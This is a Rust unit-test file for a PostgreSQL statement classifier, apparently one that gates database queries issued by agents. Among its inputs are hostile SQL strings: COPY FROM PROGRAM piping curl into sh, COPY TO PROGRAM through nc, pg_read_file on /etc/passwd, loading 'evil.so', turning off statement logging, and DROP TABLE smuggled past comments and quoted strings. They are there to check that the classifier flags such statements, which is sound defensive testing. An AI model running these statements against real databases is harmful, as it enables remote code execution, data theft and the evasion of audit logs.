//! Unit tests of the classifier: every evasion class, table and function extraction, errors,
//! the cache. The table of realistic agent queries is in `tests_corpus.rs`.

use std::collections::BTreeSet;
use std::sync::Arc;

use super::Operation::{self, Ddl, Privileged, Read, Session, Transaction, Utility, Write};
use super::*;

pub(super) fn c(sql: &str) -> Classification {
    classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"))
}

pub(super) fn ops(list: &[Operation]) -> BTreeSet<Operation> {
    list.iter().copied().collect()
}

fn set(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| s.to_string()).collect()
}

fn one(sql: &str) -> Statement {
    let mut cl = c(sql);
    assert_eq!(cl.statements.len(), 1, "{sql}: {}", cl.summary());
    cl.statements.remove(0)
}

#[track_caller]
fn check(sql: &str, want_ops: &[Operation], read: &[&str], written: &[&str]) {
    let s = one(sql);
    assert_eq!(
        s.operations,
        ops(want_ops),
        "ops of {sql}: {}",
        c(sql).summary()
    );
    assert_eq!(s.tables_read, set(read), "read of {sql}");
    assert_eq!(s.tables_written, set(written), "written of {sql}");
}

// ---- statement boundaries ----

#[test]
fn multi_statement_is_split_by_the_parser() {
    let cl = c("COMMIT; DROP TABLE x");
    assert_eq!(cl.statements.len(), 2);
    assert_eq!(cl.statements[0].kind, "TransactionStmt");
    assert_eq!(cl.statements[0].operations, ops(&[Transaction]));
    assert_eq!(cl.statements[0].text, "COMMIT");
    assert_eq!(cl.statements[1].kind, "DropStmt");
    assert_eq!(cl.statements[1].operations, ops(&[Ddl]));
    assert_eq!(cl.statements[1].tables_written, set(&["x"]));
    assert_eq!(cl.statements[1].text, "DROP TABLE x");
    assert_eq!(cl.operations(), ops(&[Transaction, Ddl]));
    assert_eq!(cl.tables_written(), set(&["x"]));

    let cl = c("SELECT * FROM a; UPDATE b SET x = 1;;  DELETE FROM c ;");
    let kinds: Vec<&str> = cl.statements.iter().map(|s| s.kind.as_str()).collect();
    assert_eq!(kinds, ["SelectStmt", "UpdateStmt", "DeleteStmt"]);
    assert_eq!(cl.operations(), ops(&[Read, Write]));
    assert_eq!(cl.tables_read(), set(&["a"]));
    assert_eq!(cl.tables_written(), set(&["b", "c"]));
    assert_eq!(cl.statements[2].text, "DELETE FROM c");
}

#[test]
fn comments_do_not_hide_or_invent_statements() {
    check("SELECT 1 -- ; DROP TABLE x", &[Read], &[], &[]);
    check("SELECT 1 /* ; DROP TABLE x */", &[Read], &[], &[]);
    check(
        "/* outer /* nested */ ; DROP TABLE x */ SELECT 1",
        &[Read],
        &[],
        &[],
    );
    // A comment does not swallow the next line.
    let cl = c("SELECT 1 -- harmless\n; DROP TABLE x");
    assert_eq!(cl.statements.len(), 2);
    assert_eq!(cl.statements[1].operations, ops(&[Ddl]));
}

#[test]
fn string_tricks_follow_the_real_boundaries() {
    // E'\'' is an escaped quote: the string is `';` and the DELETE is real.
    let cl = c(r"SELECT E'\';' ; DELETE FROM t");
    assert_eq!(cl.statements.len(), 2);
    assert_eq!(cl.statements[1].operations, ops(&[Write]));
    assert_eq!(cl.tables_written(), set(&["t"]));
    // Inside a standard string a backslash is plain, so this is one SELECT.
    check(r"SELECT '\''; DELETE FROM t; --'", &[Read], &[], &[]);
    // Semicolons in strings and quoted identifiers are not boundaries.
    check("SELECT 'a; DROP TABLE x'", &[Read], &[], &[]);
    check(r#"SELECT 1 AS "x; DROP TABLE y""#, &[Read], &[], &[]);
    check("SELECT U&'\\0041; DROP TABLE x'", &[Read], &[], &[]);
}

#[test]
fn standard_conforming_strings_off_changes_boundaries() {
    let sql = r"SELECT '\''; DELETE FROM t; --'";
    let off = ParseOptions {
        standard_conforming_strings: false,
    };
    let cl = classify_with(sql, off).unwrap();
    assert_eq!(cl.statements.len(), 2, "{}", cl.summary());
    assert_eq!(cl.operations(), ops(&[Read, Write]));
    assert_eq!(cl.tables_written(), set(&["t"]));
}

#[test]
fn dollar_quoting() {
    check("SELECT $$ ; DROP TABLE x $$", &[Read], &[], &[]);
    check("SELECT $tag$ $$ ; DROP TABLE x $$ $tag$", &[Read], &[], &[]);
    let cl = c("SELECT $a$ x $a$; DROP TABLE y");
    assert_eq!(cl.statements.len(), 2);
    assert_eq!(cl.statements[1].tables_written, set(&["y"]));
}

#[test]
fn statement_text_comes_from_the_parse_locations() {
    let cl = c("  SELECT 1 ;\n  -- note\n COMMIT;;DROP TABLE \"X\".y; ");
    let texts: Vec<&str> = cl.statements.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(texts, ["SELECT 1", "COMMIT", "DROP TABLE \"X\".y"]);
    assert_eq!(c("SELECT 'é'; SELECT 2").statements[1].text, "SELECT 2");
}

// ---- identifiers ----

#[test]
fn identifiers_fold_like_postgresql() {
    check(r#"SELECT * FROM "Users""#, &[Read], &["Users"], &[]);
    check("SELECT * FROM Users", &[Read], &["users"], &[]);
    check(
        r#"SELECT * FROM Sales."Q1", "My Schema".t"#,
        &[Read],
        &["sales.Q1", "My Schema.t"],
        &[],
    );
    check("SELECT * FROM db.public.t", &[Read], &["db.public.t"], &[]);
    check(
        "INSERT INTO Audit.Log VALUES (1)",
        &[Write],
        &[],
        &["audit.log"],
    );
}

// ---- reads ----

#[test]
fn joins_subqueries_and_unions_read_every_table() {
    check(
        "SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id \
         LEFT JOIN public.refunds r USING (id) \
         WHERE u.id IN (SELECT user_id FROM vip) AND EXISTS (SELECT 1 FROM flags f WHERE f.u = u.id)",
        &[Read],
        &["users", "orders", "public.refunds", "vip", "flags"],
        &[],
    );
    check(
        "SELECT a FROM t1 UNION SELECT b FROM t2 INTERSECT SELECT c FROM (SELECT c FROM t3) s",
        &[Read],
        &["t1", "t2", "t3"],
        &[],
    );
    check(
        "SELECT (SELECT max(x) FROM t4), * FROM LATERAL (SELECT 1) l, t5 ORDER BY (SELECT 1 FROM t6) LIMIT (SELECT 1 FROM t7)",
        &[Read],
        &["t4", "t5", "t6", "t7"],
        &[],
    );
}

#[test]
fn cte_names_are_not_tables_but_shadowing_is_resolved() {
    check(
        "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
        &[Read],
        &["orders"],
        &[],
    );
    // The CTE's own body sees the real table, not itself.
    check(
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        &[Read],
        &["secrets"],
        &[],
    );
    // A later CTE is not visible in an earlier one (non-recursive).
    check(
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
        &[Read],
        &["b"],
        &[],
    );
    check(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n",
        &[Read],
        &[],
        &[],
    );
    // A schema-qualified name is always a table.
    check(
        "WITH users AS (SELECT 1) SELECT * FROM public.users, users",
        &[Read],
        &["public.users"],
        &[],
    );
    // Scopes nest and end.
    check(
        "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x",
        &[Read],
        &["x"],
        &[],
    );
}

#[test]
fn select_for_update_is_a_read() {
    check(
        "SELECT * FROM jobs FOR UPDATE SKIP LOCKED",
        &[Read],
        &["jobs"],
        &[],
    );
}

// ---- writes ----

#[test]
fn data_modifying_cte_is_a_write() {
    let s = one("WITH d AS (DELETE FROM t WHERE old RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, "SelectStmt");
    assert_eq!(s.operations, ops(&[Read, Write]));
    assert_eq!(s.tables_written, set(&["t"]));
    check(
        "WITH u AS (UPDATE accounts SET bal = 0 RETURNING id) INSERT INTO log SELECT id FROM u",
        &[Read, Write],
        &["accounts"],
        &["accounts", "log"],
    );
    check(
        "WITH x AS (INSERT INTO t VALUES (1)) SELECT 1",
        &[Read, Write],
        &[],
        &["t"],
    );
}

#[test]
fn update_from_separates_written_and_read() {
    check(
        "UPDATE orders o SET status = 'x' FROM customers c WHERE c.id = o.cid AND c.region IN (SELECT r FROM regions)",
        &[Read, Write],
        &["customers", "regions"],
        &["orders"],
    );
    check("UPDATE t SET a = 1 WHERE id = 2", &[Write], &[], &["t"]);
    check(
        "DELETE FROM t USING u WHERE t.id = u.id",
        &[Read, Write],
        &["u"],
        &["t"],
    );
    // RETURNING reads the target.
    check("DELETE FROM t RETURNING *", &[Read, Write], &["t"], &["t"]);
}

#[test]
fn insert_select() {
    check(
        "INSERT INTO archive (id, body) SELECT id, body FROM posts WHERE created < now()",
        &[Read, Write],
        &["posts"],
        &["archive"],
    );
    check("INSERT INTO t VALUES (1), (2)", &[Write], &[], &["t"]);
    check(
        "INSERT INTO t (k, v) VALUES (1, 2) ON CONFLICT (k) DO UPDATE SET v = excluded.v",
        &[Write],
        &[],
        &["t"],
    );
}

#[test]
fn merge() {
    let s = one("MERGE INTO stock s USING incoming i ON s.id = i.id \
         WHEN MATCHED THEN UPDATE SET qty = s.qty + i.qty \
         WHEN NOT MATCHED THEN INSERT VALUES (i.id, i.qty)");
    assert_eq!(s.kind, "MergeStmt");
    assert_eq!(s.operations, ops(&[Read, Write]));
    assert_eq!(s.tables_read, set(&["incoming"]));
    assert_eq!(s.tables_written, set(&["stock"]));
}

#[test]
fn select_into_and_create_table_as() {
    check(
        "SELECT * INTO copy FROM src",
        &[Read, Write, Ddl],
        &["src"],
        &["copy"],
    );
    let s = one("CREATE TABLE t2 AS SELECT * FROM t1");
    assert_eq!(s.kind, "CreateTableAsStmt");
    assert_eq!(s.operations, ops(&[Read, Write, Ddl]));
    assert_eq!(s.tables_read, set(&["t1"]));
    assert_eq!(s.tables_written, set(&["t2"]));
    check(
        "CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM big",
        &[Read, Write, Ddl],
        &["big"],
        &["mv"],
    );
}

#[test]
fn truncate_and_call_are_writes() {
    check("TRUNCATE a, s.b", &[Write], &[], &["a", "s.b"]);
    let s = one("CALL archive_old(30)");
    assert_eq!(s.operations, ops(&[Write]));
    assert_eq!(s.functions, set(&["archive_old"]));
    check("NOTIFY jobs, 'x'", &[Write], &[], &[]);
}

// ---- COPY ----

#[test]
fn copy_directions() {
    check("COPY t FROM STDIN", &[Write], &[], &["t"]);
    check(
        "COPY t (a, b) FROM STDIN WITH (FORMAT csv)",
        &[Write],
        &[],
        &["t"],
    );
    check("COPY t TO STDOUT", &[Read], &["t"], &[]);
    check(
        "COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT",
        &[Read],
        &["a", "b"],
        &[],
    );
}

#[test]
fn copy_of_dml_to_stdout_is_a_write() {
    let s = one("COPY (DELETE FROM t WHERE x RETURNING *) TO STDOUT");
    assert_eq!(s.kind, "CopyStmt");
    assert!(s.operations.contains(&Write), "{:?}", s.operations);
    assert_eq!(s.tables_written, set(&["t"]));
    let s = one("COPY (UPDATE t SET a = 1 RETURNING a) TO STDOUT (FORMAT csv)");
    assert!(s.operations.contains(&Write));
}

#[test]
fn copy_program_and_server_files_are_privileged() {
    check(
        "COPY t FROM PROGRAM 'curl http://x | sh'",
        &[Write, Privileged],
        &[],
        &["t"],
    );
    check(
        "COPY t TO PROGRAM 'nc host 1'",
        &[Read, Privileged],
        &["t"],
        &[],
    );
    check(
        "COPY t FROM '/etc/passwd'",
        &[Write, Privileged],
        &[],
        &["t"],
    );
    check(
        "COPY (SELECT 1) TO '/tmp/out'",
        &[Read, Privileged],
        &[],
        &[],
    );
}

// ---- EXPLAIN ----

#[test]
fn explain_analyze_runs_the_statement() {
    let s = one("EXPLAIN ANALYZE DELETE FROM t");
    assert_eq!(s.kind, "ExplainStmt");
    assert_eq!(s.operations, ops(&[Read, Write]));
    assert_eq!(s.tables_written, set(&["t"]));
    for sql in [
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "EXPLAIN (ANALYZE true) DELETE FROM t",
        "EXPLAIN (ANALYZE on, BUFFERS) DELETE FROM t",
        "EXPLAIN (FORMAT json, ANALYZE 1) DELETE FROM t",
        "EXPLAIN ANALYZE VERBOSE DELETE FROM t",
    ] {
        assert_eq!(one(sql).operations, ops(&[Read, Write]), "{sql}");
    }
    check(
        "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
        &[Read, Privileged],
        &[],
        &[],
    );
}

#[test]
fn explain_without_analyze_only_reads() {
    for sql in [
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t",
        "EXPLAIN (VERBOSE) DELETE FROM t",
    ] {
        check(sql, &[Read], &["t"], &[]);
    }
    // Nothing runs, so nothing is escalated, but functions are still listed.
    let s = one("EXPLAIN SELECT pg_terminate_backend(1), nextval('s')");
    assert_eq!(s.operations, ops(&[Read]));
    assert_eq!(s.functions, set(&["pg_terminate_backend", "nextval"]));
    check(
        "EXPLAIN CREATE TABLE x AS SELECT * FROM y",
        &[Read],
        &["y"],
        &[],
    );
}

// ---- PREPARE / EXECUTE / cursors ----

#[test]
fn prepare_is_classified_by_its_statement() {
    let s = one("PREPARE del(int) AS DELETE FROM t WHERE id = $1");
    assert_eq!(s.kind, "PrepareStmt");
    assert_eq!(s.operations, ops(&[Session, Write]));
    assert_eq!(s.tables_written, set(&["t"]));
    assert_eq!(s.prepared_name.as_deref(), Some("del"));
    let s = one("PREPARE q AS SELECT pg_read_file('/etc/passwd')");
    assert_eq!(s.operations, ops(&[Session, Read, Privileged]));
    check(
        "PREPARE r AS SELECT * FROM users",
        &[Session, Read],
        &["users"],
        &[],
    );
}

#[test]
fn execute_names_the_prepared_statement() {
    let s = one("EXECUTE del(42)");
    assert_eq!(s.kind, "ExecuteStmt");
    assert_eq!(s.operations, ops(&[Session]));
    assert_eq!(s.prepared_name.as_deref(), Some("del"));
    // Parameters are expressions and are walked.
    let s = one("EXECUTE q(pg_terminate_backend(7))");
    assert_eq!(s.operations, ops(&[Session, Privileged]));
    let s = one("EXPLAIN ANALYZE EXECUTE del(1)");
    assert_eq!(s.prepared_name.as_deref(), Some("del"));
    assert_eq!(s.operations, ops(&[Read, Session]));
    let s = one("DEALLOCATE del");
    assert_eq!(
        (s.operations, s.prepared_name.as_deref()),
        (ops(&[Session]), Some("del"))
    );
    assert_eq!(one("DEALLOCATE ALL").prepared_name, None);
    assert_eq!(one("SELECT 1").prepared_name, None);
}

#[test]
fn cursors() {
    check(
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM big",
        &[Session, Read],
        &["big"],
        &[],
    );
    check("FETCH 100 FROM c", &[Read], &[], &[]);
    check("MOVE ABSOLUTE 0 IN c", &[Read], &[], &[]);
    check("CLOSE c", &[Session], &[], &[]);
}

// ---- privileged ----

#[test]
fn do_blocks_are_privileged() {
    let s = one("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$");
    assert_eq!(s.kind, "DoStmt");
    assert_eq!(s.operations, ops(&[Privileged]));
    check(
        "DO LANGUAGE plpgsql 'BEGIN NULL; END'",
        &[Privileged],
        &[],
        &[],
    );
}

#[test]
fn role_switching_is_privileged() {
    for sql in [
        "SET ROLE admin",
        "SET LOCAL ROLE admin",
        "SET SESSION ROLE admin",
        "SET role TO admin",
        "SET ROLE NONE",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION postgres",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET SESSION AUTHORIZATION",
        "SET session_replication_role = replica",
        "DISCARD ALL",
    ] {
        assert_eq!(one(sql).operations, ops(&[Privileged]), "{sql}");
    }
    for sql in [
        "SET search_path = app, public",
        "SET statement_timeout TO '5s'",
        "RESET ALL",
        "SET TIME ZONE 'UTC'",
        "DISCARD TEMP",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
    ] {
        assert_eq!(one(sql).operations, ops(&[Session]), "{sql}");
    }
}

#[test]
fn grants_roles_and_system_are_privileged() {
    check("GRANT SELECT ON t TO bob", &[Privileged], &[], &["t"]);
    check("REVOKE ALL ON SCHEMA s FROM bob", &[Privileged], &[], &[]);
    check("GRANT admin TO agent", &[Privileged], &[], &[]);
    check("CREATE ROLE x LOGIN SUPERUSER", &[Privileged], &[], &[]);
    check("ALTER USER agent WITH SUPERUSER", &[Privileged], &[], &[]);
    check(
        "ALTER ROLE agent SET role = 'admin'",
        &[Privileged],
        &[],
        &[],
    );
    check(
        "ALTER SYSTEM SET log_statement = 'none'",
        &[Privileged],
        &[],
        &[],
    );
    check("CHECKPOINT", &[Privileged], &[], &[]);
    check("LOAD 'evil.so'", &[Privileged], &[], &[]);
    check("CREATE EXTENSION dblink", &[Ddl, Privileged], &[], &[]);
    check(
        "ALTER TABLE t OWNER TO bob",
        &[Ddl, Privileged],
        &[],
        &["t"],
    );
    check(
        "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
        &[Ddl, Privileged],
        &[],
        &["t"],
    );
    check(
        "ALTER FUNCTION f() OWNER TO bob",
        &[Ddl, Privileged],
        &[],
        &[],
    );
    check(
        "CREATE USER MAPPING FOR bob SERVER s OPTIONS (password 'x')",
        &[Ddl, Privileged],
        &[],
        &[],
    );
}

#[test]
fn side_effecting_functions_in_select() {
    let s = one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'");
    assert_eq!(s.operations, ops(&[Read, Privileged]));
    assert_eq!(s.tables_read, set(&["pg_stat_activity"]));
    assert_eq!(s.functions, set(&["pg_terminate_backend"]));
    check(
        "SELECT lo_export(1234, '/tmp/x')",
        &[Read, Privileged],
        &[],
        &[],
    );
    check(
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        &[Read, Privileged],
        &[],
        &[],
    );
    check(
        "SELECT * FROM pg_ls_dir('.')",
        &[Read, Privileged],
        &[],
        &[],
    );
    check(
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
        &[Read, Privileged],
        &[],
        &[],
    );
    check("SELECT nextval('orders_id_seq')", &[Read, Write], &[], &[]);
    check("SELECT setval('s', 1)", &[Read, Write], &[], &[]);
    check(
        "SELECT set_config('search_path', 'x', false)",
        &[Read, Session],
        &[],
        &[],
    );
    check(
        "SELECT set_config('ROLE', 'admin', false)",
        &[Read, Privileged],
        &[],
        &[],
    );
    check(
        "SELECT set_config(name, 'x', false) FROM settings",
        &[Read, Privileged],
        &["settings"],
        &[],
    );
    check("SELECT pg_advisory_lock(1)", &[Read, Utility], &[], &[]);
    check(
        "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
        &[Read, Privileged],
        &[],
        &[],
    );
    // Deep inside expressions and in a CASE.
    check(
        "SELECT CASE WHEN x > 0 THEN coalesce(pg_cancel_backend(x), false) END FROM t",
        &[Read, Privileged],
        &["t"],
        &[],
    );
    // pg_sleep is listed, not escalated; unknown functions are only listed.
    let s = one("SELECT pg_sleep(10), my_func(1), extract(year FROM now())");
    assert_eq!(s.operations, ops(&[Read]));
    assert_eq!(s.functions, set(&["pg_sleep", "my_func", "extract", "now"]));
    let s = one(r#"SELECT app."Fn"(1), Public.LOWER('A')"#);
    assert_eq!(s.functions, set(&["app.Fn", "public.lower"]));
}

#[test]
fn side_effecting_function_list() {
    assert_eq!(
        is_side_effecting_function("pg_terminate_backend"),
        Some(Privileged)
    );
    assert_eq!(
        is_side_effecting_function("PG_CATALOG.PG_RELOAD_CONF"),
        Some(Privileged)
    );
    assert_eq!(is_side_effecting_function("dblink_exec"), Some(Privileged));
    assert_eq!(is_side_effecting_function("pg_ls_waldir"), Some(Privileged));
    assert_eq!(
        is_side_effecting_function("pg_create_logical_replication_slot"),
        Some(Privileged)
    );
    assert_eq!(is_side_effecting_function("nextval"), Some(Write));
    assert_eq!(is_side_effecting_function("set_config"), Some(Session));
    assert_eq!(
        is_side_effecting_function("pg_try_advisory_xact_lock"),
        Some(Utility)
    );
    assert_eq!(is_side_effecting_function("pg_sleep"), None);
    assert_eq!(is_side_effecting_function("lower"), None);
    assert_eq!(is_side_effecting_function("lo_get"), None);
}

// ---- other kinds ----

#[test]
fn transactions() {
    for sql in [
        "BEGIN",
        "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY",
        "START TRANSACTION",
        "COMMIT",
        "END",
        "ROLLBACK",
        "ABORT",
        "SAVEPOINT a",
        "RELEASE SAVEPOINT a",
        "ROLLBACK TO SAVEPOINT a",
        "PREPARE TRANSACTION 'g1'",
        "COMMIT PREPARED 'g1'",
        "ROLLBACK PREPARED 'g1'",
        "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
        "SET CONSTRAINTS ALL DEFERRED",
    ] {
        assert_eq!(one(sql).operations, ops(&[Transaction]), "{sql}");
    }
}

#[test]
fn ddl() {
    check(
        "CREATE TABLE t (id serial PRIMARY KEY, u int REFERENCES users)",
        &[Ddl],
        &[],
        &["t", "users"],
    );
    // LIKE reads the definition of t.
    check(
        "CREATE TABLE t2 (LIKE t INCLUDING ALL)",
        &[Ddl, Read],
        &["t"],
        &["t2"],
    );
    check("ALTER TABLE t ADD COLUMN c text", &[Ddl], &[], &["t"]);
    check(
        "DROP TABLE IF EXISTS a, s.b CASCADE",
        &[Ddl],
        &[],
        &["a", "s.b"],
    );
    check("DROP VIEW v", &[Ddl], &[], &["v"]);
    check("DROP FUNCTION f(int)", &[Ddl], &[], &[]);
    check(
        "CREATE INDEX CONCURRENTLY i ON t (lower(name))",
        &[Ddl],
        &[],
        &["t"],
    );
    check("REINDEX TABLE t", &[Ddl], &[], &["t"]);
    check("COMMENT ON TABLE s.t IS 'x'", &[Ddl], &[], &["s.t"]);
    check("COMMENT ON COLUMN s.t.c IS 'x'", &[Ddl], &[], &["s.t"]);
    check(
        "CREATE VIEW v AS SELECT * FROM secrets",
        &[Ddl, Read],
        &["secrets"],
        &["v"],
    );
    check("ALTER TABLE a RENAME TO b", &[Ddl], &[], &["a"]);
    check("CREATE SCHEMA s", &[Ddl], &[], &[]);
    check(
        "CREATE SCHEMA s CREATE TABLE x (a int) GRANT SELECT ON x TO bob",
        &[Ddl, Privileged],
        &[],
        &["x"],
    );
    let s = one("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()");
    assert_eq!(s.operations, ops(&[Ddl]));
    assert_eq!(s.functions, set(&["audit"]));
    check(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        &[Ddl],
        &[],
        &[],
    );
    // Bodies that are parsed are classified as if they ran.
    check(
        "CREATE FUNCTION g() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        &[Ddl, Write],
        &[],
        &["t"],
    );
    check("CREATE DATABASE d", &[Ddl], &[], &[]);
}

#[test]
fn utility() {
    check("VACUUM ANALYZE t", &[Utility], &[], &["t"]);
    check("ANALYZE", &[Utility], &[], &[]);
    check("CLUSTER t USING i", &[Utility], &[], &["t"]);
    check(
        "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
        &[Utility],
        &[],
        &["t"],
    );
    check("REFRESH MATERIALIZED VIEW mv", &[Write], &[], &["mv"]);
    check("SHOW search_path", &[Read], &[], &[]);
    check("LISTEN ch", &[Session], &[], &[]);
    check("UNLISTEN *", &[Session], &[], &[]);
}

// ---- errors ----

#[test]
fn parse_errors_carry_the_parsers_message() {
    let err = classify("SELEC 1").unwrap_err();
    assert!(
        matches!(&err, SqlError::Parse(m) if m == "syntax error at or near \"SELEC\""),
        "{err}"
    );
    assert_eq!(
        err.to_string(),
        "SQL does not parse: syntax error at or near \"SELEC\""
    );
    // One bad statement fails the whole string.
    assert!(matches!(
        classify("SELECT 1; DROP TABLE"),
        Err(SqlError::Parse(_))
    ));
    assert!(matches!(
        classify("SELECT 'unterminated"),
        Err(SqlError::Parse(_))
    ));
    assert!(matches!(
        classify("SELECT 1\0; DROP TABLE x"),
        Err(SqlError::Parse(_))
    ));
}

#[test]
fn empty_queries() {
    for sql in ["", "   ", ";", " ; ;", "-- only a comment", "/* c */"] {
        assert!(matches!(classify(sql), Err(SqlError::Empty)), "{sql:?}");
    }
    assert_eq!(SqlError::Empty.to_string(), "empty query");
}

#[test]
fn unmapped_node_kinds_fail_closed() {
    let node = pg_query::NodeEnum::Integer(pg_query::protobuf::Integer { ival: 1 });
    let mut facts = walk::Facts::default();
    let err = stmt::classify_stmt(&node, &mut facts, true).unwrap_err();
    assert!(
        matches!(&err, SqlError::Unknown { kind, .. } if kind == "Integer"),
        "{err}"
    );
    assert_eq!(
        err.to_string(),
        "cannot classify Integer: statement type not mapped; denied (fail closed)"
    );
}

#[test]
fn too_deep_fails_closed() {
    let deep = format!("SELECT a{}", " || a".repeat(200));
    let err = classify(&deep).unwrap_err();
    assert!(matches!(err, SqlError::Unknown { .. }), "{err}");
    assert!(err.to_string().ends_with("denied (fail closed)"), "{err}");
    // Ordinary depth is fine.
    let ok = format!("SELECT a{}", " || a".repeat(40));
    assert_eq!(c(&ok).operations(), ops(&[Read]));
}

#[test]
fn summary_for_audit_logs() {
    assert_eq!(
        c("SELECT * FROM users").summary(),
        "SelectStmt read [users]"
    );
    assert_eq!(
        c("BEGIN; UPDATE a SET x = 1 FROM b; SELECT nextval('s')").summary(),
        "TransactionStmt transaction; UpdateStmt read,write [b] -> [a]; SelectStmt read,write calls [nextval]"
    );
    assert_eq!(
        c("EXECUTE p(1)").summary(),
        "ExecuteStmt session prepared=p"
    );
}

#[test]
fn serializes_for_audit() {
    let v = serde_json::to_value(c("DELETE FROM t")).unwrap();
    assert_eq!(v["statements"][0]["kind"], "DeleteStmt");
    assert_eq!(
        v["statements"][0]["operations"],
        serde_json::json!(["write"])
    );
    assert!(v["statements"][0].get("prepared_name").is_none());
    let op: Operation = serde_json::from_str("\"privileged\"").unwrap();
    assert_eq!(op, Privileged);
}

// ---- cache ----

#[test]
fn classifier_caches_by_exact_text() {
    let cl = Classifier::new(2);
    let a1 = cl.classify("SELECT 1");
    let a2 = cl.classify("SELECT 1");
    assert!(Arc::ptr_eq(&a1, &a2));
    assert_eq!(cl.stats(), (1, 1));
    // Different text (even whitespace) is a different entry.
    let _ = cl.classify("SELECT  1");
    assert_eq!(cl.stats(), (1, 2));
    // Errors are cached too.
    assert!(matches!(*cl.classify("SELEC"), Err(SqlError::Parse(_))));
    assert!(matches!(*cl.classify("SELEC"), Err(SqlError::Parse(_))));
    assert_eq!(cl.stats(), (2, 3));
    assert_eq!(cl.len(), 2);
    // "SELECT 1" was least recently used and is gone; "SELEC" stays.
    let _ = cl.classify("SELECT 1");
    assert_eq!(cl.stats(), (2, 4));
    let _ = cl.classify("SELEC");
    assert_eq!(cl.stats(), (3, 4));
    // Parse options are part of the key.
    let off = ParseOptions {
        standard_conforming_strings: false,
    };
    let _ = cl.classify_with("SELEC", off);
    assert_eq!(cl.stats(), (3, 5));
}

#[test]
fn classifier_is_shared_between_threads() {
    let cl = Arc::new(Classifier::new(64));
    let handles: Vec<_> = (0..4)
        .map(|i| {
            let cl = Arc::clone(&cl);
            std::thread::spawn(move || {
                for j in 0..50 {
                    let sql = format!("SELECT * FROM t{} WHERE id = {}", (i + j) % 8, j % 4);
                    let r = cl.classify(&sql);
                    assert_eq!(r.as_ref().as_ref().unwrap().operations(), ops(&[Read]));
                }
            })
        })
        .collect();
    for h in handles {
        h.join().unwrap();
    }
    let (hits, misses) = cl.stats();
    assert_eq!(hits + misses, 200);
    assert!(hits > 0 && misses >= 32, "{hits} {misses}");
}

#[test]
fn classifier_without_capacity_and_with_long_texts() {
    let cl = Classifier::new(0);
    let _ = cl.classify("SELECT 1");
    let _ = cl.classify("SELECT 1");
    assert_eq!(cl.stats(), (0, 2));
    assert!(cl.is_empty());
    let cl = Classifier::default();
    let long = format!("SELECT '{}'", "x".repeat(cache::MAX_CACHED_LEN));
    let _ = cl.classify(&long);
    let _ = cl.classify(&long);
    assert_eq!(cl.stats(), (0, 2));
}
